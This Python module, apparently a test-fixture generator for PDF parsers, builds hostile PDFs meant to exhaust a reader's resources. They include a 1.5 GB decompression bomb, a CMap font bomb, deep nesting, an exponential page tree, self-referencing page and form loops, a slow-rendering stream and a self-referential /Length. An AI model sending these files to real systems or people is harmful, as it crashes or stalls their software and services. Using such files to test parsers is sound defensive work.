"""Builds files that mean harm, or look like it: small ones that cost their reader much."""

import zlib
from functools import reduce

BOMB_MEGABYTES = 1_500


def write_pdf(*objects: bytes) -> bytes:
    """Return a PDF of these objects, numbered from 1; the first is its catalogue."""
    items = [b"%d 0 obj\n%b\nendobj\n" % (number, item) for number, item in enumerate(objects, start=1)]
    header = b"%PDF-1.7\n"
    starts = [len(header) + sum(map(len, items[:number])) for number in range(len(items) + 1)]
    table = b"".join(b"%010d 00000 n \n" % start for start in starts[:-1])
    size = len(items) + 1
    return b"%b%bxref\n0 %d\n0000000000 65535 f \n%btrailer\n<< /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        header,
        b"".join(items),
        size,
        table,
        size,
        starts[-1],
    )


def write_stream(content: bytes, *, filters: bytes = b"") -> bytes:
    """Return a stream object; `filters` says how its content is packed."""
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), filters, content)


def write_page(content: bytes, *, resources: bytes = b"") -> list[bytes]:
    """Return the objects of a document of one page, whose content stream is the fourth."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << %b >> >>" % resources,
        content,
    ]


def pack_spaces(megabytes: int) -> bytes:
    """Return so many spaces deflated, without ever holding them; a thousandth of the size."""
    packer, block = zlib.compressobj(9), b" " * 1_000_000
    head = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)  # which says the same wherever it stands
    checksum = reduce(lambda value, _: zlib.adler32(block, value), range(megabytes), 1)
    return head + packed * (megabytes - 1) + b"\x03\x00" + checksum.to_bytes(4, "big")


def build_stream_bomb() -> bytes:
    """Return a page whose content inflates to 1.5 GB, packed twice."""
    packed = zlib.compress(pack_spaces(BOMB_MEGABYTES))
    return write_pdf(*write_page(write_stream(packed, filters=b"/Filter [/FlateDecode /FlateDecode]")))


def build_font_bomb() -> bytes:
    """Return a page whose font maps its characters by ranges of millions."""
    ranges = b"\n".join(b"<%08x> <%08x> <0041>" % (number, 0xFFFFFF00) for number in range(100))
    table = b"begincmap 1 begincodespacerange <00000000> <ffffffff> endcodespacerange\n"
    cmap = write_stream(table + b"100 beginbfrange\n" + ranges + b"\nendbfrange endcmap")
    page = write_page(write_stream(b"BT /F1 12 Tf <00000041> Tj ET"), resources=b"/Font << /F1 5 0 R >>")
    return write_pdf(
        *page, b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 6 0 R >>", cmap
    )


def build_nest(depth: int) -> bytes:
    """Return a document whose catalogue holds arrays within arrays."""
    return write_pdf(b"<< /Type /Catalog /Pages 2 0 R /A %b %b >>" % (b"[" * depth, b"]" * depth), b"<< /Kids [] >>")


def build_page_bomb(levels: int) -> bytes:
    """Return a page tree whose every node names the next one a hundred times: 100 to the power of `levels` pages."""
    nodes = [
        b"<< /Type /Pages /Count 1000000 /Kids [%b] >>" % (b"%d 0 R " % (number + 3) * 100) for number in range(levels)
    ]
    return write_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, b"<< /Type /Page /MediaBox [0 0 9 9] >>")


def build_page_loop() -> bytes:
    """Return a page tree that is its own child."""
    return write_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")


def _build_form(page: bytes, form: bytes) -> bytes:
    """Return a page with a form named X, which may draw itself."""
    facts = (
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >> /Filter /FlateDecode"
    )
    objects = write_page(write_stream(page), resources=b"/XObject << /X 5 0 R >>")
    return write_pdf(*objects, write_stream(zlib.compress(form), filters=facts))


def build_form_loop() -> bytes:
    """Return a page that draws a form which draws itself twice."""
    return _build_form(b"/X Do", b"/X Do /X Do")


def build_endless() -> bytes:
    """Return a page that draws a million empty strings a hundred times, which takes minutes."""
    return _build_form(b"/X Do " * 100, b"BT " + b"() Tj " * 1_000_000 + b"ET")


def build_length_loop() -> bytes:
    """Return a stream whose length is itself."""
    page = write_page(b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream")
    return write_pdf(*page)
